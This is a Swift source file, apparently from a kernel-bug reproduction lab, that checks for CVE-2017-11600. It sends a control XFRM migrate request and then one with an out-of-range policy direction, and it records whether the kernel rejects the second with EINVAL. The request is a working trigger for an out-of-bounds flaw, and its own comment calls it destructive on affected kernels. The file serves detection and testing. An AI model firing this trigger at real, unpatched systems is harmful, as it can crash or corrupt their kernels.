import CNetlink
import Foundation
import Glibc
import Lab
import Netlink

/// CVE-2017-11600: XFRM_MSG_MIGRATE took the policy direction from user space unchecked and
/// used it as an index into the per-direction policy tables (out of bounds: an oops or worse).
/// Since 7bab09631c2a (Linux 4.13) xfrm_migrate() refuses a direction ≥ XFRM_POLICY_MAX with
/// EINVAL. Destructive on an affected kernel. The control, direction out with no policy to
/// migrate, must come back ENOENT (migration is built in and reached the policy lookup).
enum MigrateDirection {
    static func request(namespace: String, direction: UInt8) -> Request {
        XfrmPolicyRequest.migrate(namespace: namespace, selector: XfrmSelector(source: "192.0.2.1/32", destination: "192.0.2.2/32")!,
                                  rawDirection: direction, migrations: [
                                      XfrmMigration(oldSource: [192, 0, 2, 1], oldDestination: [192, 0, 2, 2],
                                                    newSource: [192, 0, 2, 11], newDestination: [192, 0, 2, 12], reqid: 1),
                                  ])
    }

    static let reproduction = Reproduction("migrate-direction") { lab in
        let xfrm = try lab.namespace("lab").xfrmSocket()
        defer { xfrm.close() }
        let ns = try lab.namespace("lab").name
        let control = ask(xfrm, request(namespace: ns, direction: 1))
        guard control.errno == ENOENT else { throw Inconclusive("the control did not reach the policy lookup: \(control)") }
        let bad = ask(xfrm, request(namespace: ns, direction: 3))
        return Observation(bugPresent: bad.errno != EINVAL, evidence: ["\(bad)", "control: \(control)"])
    }
}
